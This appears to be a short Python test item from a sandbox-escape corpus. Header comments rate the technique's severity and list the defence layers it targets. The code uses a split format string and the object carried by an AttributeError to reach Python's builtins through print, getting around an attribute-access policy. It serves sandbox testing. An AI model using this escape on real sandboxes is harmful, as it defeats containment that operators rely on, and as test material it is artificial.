# technique: a format field walks attributes, and its error carries the object
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
def trick():
    try:
        ("{0.__se" + "lf__.open.nothing}").format(print)
    except AttributeError as e:
        return e.obj

read_host(trick)
